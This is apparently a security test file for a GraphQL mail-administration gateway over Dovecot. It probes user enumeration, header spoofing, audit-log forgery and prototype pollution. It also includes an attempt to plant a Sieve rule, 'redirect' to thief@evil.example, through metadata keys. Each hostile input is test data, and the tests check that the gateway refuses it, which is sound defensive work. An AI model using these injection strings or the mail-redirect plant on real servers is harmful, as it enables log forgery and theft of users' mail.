import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import { verifyAudit } from '../../src/audit.ts';
import { behindGateway, selfOf, withRole } from './gateway.ts';

const admin = withRole('domain-admin', 'example.com');

behindGateway('an attacker who reads between the lines', (gateway, dovecot) => {
  let victim = '';
  let me = '';
  beforeAll(async () => {
    const [a, b] = await dovecot.createUsers([{}, { domain: 'other.org' }]);
    [me = '', victim = ''] = [a?.name, b?.name];
  });

  test('learns nothing about existing users from the cost of a query, from null, or from an error instead', async () => {
    const queries = [
      'query ($n: String!) { users(mask: $n) { totalCount nodes { name } } }',
      'query ($n: String!) { sessions(mask: $n) { totalCount nodes { service } errors { code } } }',
      'query ($n: String!) { user(name: $n) { home quota { root } } }',
      'query ($n: String!) { viewer { can(permission: MAILBOX_READ, user: $n) { allowed reason } } }',
      'mutation ($n: String!) { quotaRecalc(input: { target: { users: [$n] } }) { outcome errors { code message log } results { outcome } } }',
      'mutation ($n: String!) { quotaRecalc(input: { target: { mask: $n } }) { outcome errors { code message } } }',
      'mutation ($n: String!) { mailboxDelete(input: { user: $n, mailbox: "x", dryRun: true }) { outcome affected { messageCount } } }',
      'mutation ($n: String!) { messageExpunge(input: { user: $n, search: { mailbox: "x", all: true }, expect: { messages: 0 } }) { outcome } }',
      `mutation ($n: String!) { aclSet(input: { user: "${me}", mailbox: "INBOX", identifier: { user: $n }, rights: [READ] }) { outcome } }`,
    ];
    const ghost = `${randomUUID().slice(0, 8)}@other.org`;
    for (const query of queries) {
      const of = async (n: string): Promise<string> => {
        let answer = '';
        const sent = await gateway.countSent(async () => {
          const { status, data, errors, extensions } = await gateway.ask(query, { as: admin, variables: { n } });
          answer = JSON.stringify({ status, data, errors, ...extensions, requestId: null }).replaceAll(n, 'NAME');
        });
        return `${String(sent)} ${answer}`;
      };
      expect(await of(victim)).toBe(await of(ghost));
    }
  });

  test('cannot choose the id of a request, nor put anything else into the log by a header', async () => {
    const headers = {
      'x-request-id': 'evil',
      'request-id': 'evil',
      traceparent: '00-evil',
      'x-forwarded-for': '6.6.6.6',
      forwarded: 'for=6.6.6.6',
    };
    const { extensions } = await gateway.ask('mutation ($n: String!) { quotaRecalc(input: { user: $n }) { outcome } }', {
      as: admin,
      variables: { n: victim },
      headers,
    });
    expect(extensions.requestId).toMatch(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
    const line = (await gateway.auditLines()).at(-1);
    expect(line).toMatchObject({ event: 'refused', requestId: extensions.requestId, ip: expect.stringMatching(/127\.0\.0\.1$/) });
    expect(JSON.stringify(line)).not.toMatch(/evil|6\.6\.6\.6/);
  });

  test.each([
    ['a line end', 'x\n{"seq":1,"event":"outcome","outcome":"APPLIED"}'],
    ['a return', 'x\r{"event":"outcome"}'],
    ['a separator of lines', 'x\u2028{"event":"outcome"}\u2029'],
    ['a quote', 'x","event":"outcome","y":"'],
    ['a backslash', 'x\\","event":"outcome'],
    ['a terminal’s escape', '\u001b[2Jx'],
    ['a seal', `x","prev":"${'0'.repeat(64)}","hash":"${'0'.repeat(64)}"}`],
  ])('cannot forge a line of the audit log by %s', async (_, text) => {
    const before = (await gateway.auditLines()).length;
    await gateway.ask('mutation ($m: String!, $u: String!) { mailboxCreate(input: { user: $u, mailbox: $m }) { outcome } }', {
      as: { ...admin, sub: text },
      variables: { m: text, u: victim },
    });
    await gateway.ask('mutation ($u: String!) { storagePurge(input: { user: $u }) { outcome } }', {
      as: admin,
      variables: { u: `${text}@other.org` },
    });
    const lines = (await gateway.auditLines()).slice(before);
    expect(lines.map(({ event, outcome }) => [event, outcome])).toEqual(lines.map(() => ['refused', undefined]));
    expect(lines[0]).toMatchObject({ sub: text, arguments: { mailbox: text, user: victim } });
    expect(await verifyAudit(gateway.auditPath)).toMatchObject({ ok: true });
  });

  describe('with a name that every object has', () => {
    const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype'];

    test('as a user, a mailbox, a script, a key, a header or a role, meets an ordinary answer', async () => {
      const query = `query ($n: String!, $u: String!) {
        ghost: user(name: $n) { name fields { name } }
        user(name: $u) { field(name: $n) mailbox(name: $n) { messageCount } sieveScript(name: $n) { active }
          metadataValue(key: $n) messages(search: { header: { name: $n }, hasFlags: [$n] }) { nodes { header(name: $n) } } } }`;
      for (const n of NAMES) {
        const as = { sub: me, roles: ['superadmin', n], domains: ['*', n], users: [n] };
        const { data, errors } = await gateway.ask<{ ghost: unknown; user: { field: unknown } }>(query, { as, variables: { n, u: me } });
        expect(data, n).toMatchObject({ ghost: null, user: { field: null, mailbox: null, sieveScript: null } });
        for (const { extensions } of errors) expect(extensions.code, n).toBe('BAD_USER_INPUT');
        const alone = await gateway.ask('{ users { totalCount } }', { as: { sub: n, roles: [n], domains: ['*'] } });
        expect(alone.errors[0]?.extensions.code, n).toBe('FORBIDDEN');
      }
    });

    test('as a variable or a field of an input, changes nothing', async () => {
      const polluted = JSON.parse('{"user":"x","__proto__":{"everyone":true},"constructor":{"prototype":{"dryRun":false}}}') as object;
      const { errors } = await gateway.ask('mutation ($i: QuotaRecalcInput!) { quotaRecalc(input: $i) { outcome } }', {
        as: admin,
        variables: { i: polluted, ...(JSON.parse('{"__proto__":{"i":1}}') as object) },
      });
      expect(errors.length).toBeGreaterThan(0);
      expect(({} as Record<string, unknown>).everyone).toBeUndefined();
      expect((await gateway.ask('{ viewer { name } }', { as: selfOf(me) })).data).toEqual({ viewer: { name: me } });
    });
  });

  test('finds no other way to a Sieve script or an access control list in metadata', async () => {
    for (const key of [
      '/private/vendor/vendor.dovecot/pvt/server/sieve/files/planted',
      '/private/vendor/vendor.dovecot/pvt/server/vendor/vendor.dovecot/pvt/sieve/files/planted',
      '/shared/vendor/vendor.dovecot/pvt/acl/anyone',
    ]) {
      for (const mailbox of [null, 'INBOX']) {
        await gateway.ask('mutation ($i: MailboxMetadataSetInput!) { mailboxMetadataSet(input: $i) { outcome } }', {
          as: admin,
          variables: { i: { user: me, mailbox, key, value: 'redirect "thief@evil.example";' } },
        });
      }
    }
    expect(await dovecot.doveadm(['sieve', 'list', '-u', me])).not.toContain('planted');
    expect(await dovecot.doveadm(['acl', 'get', '-u', me, 'INBOX'])).not.toContain('anyone');
  });
});
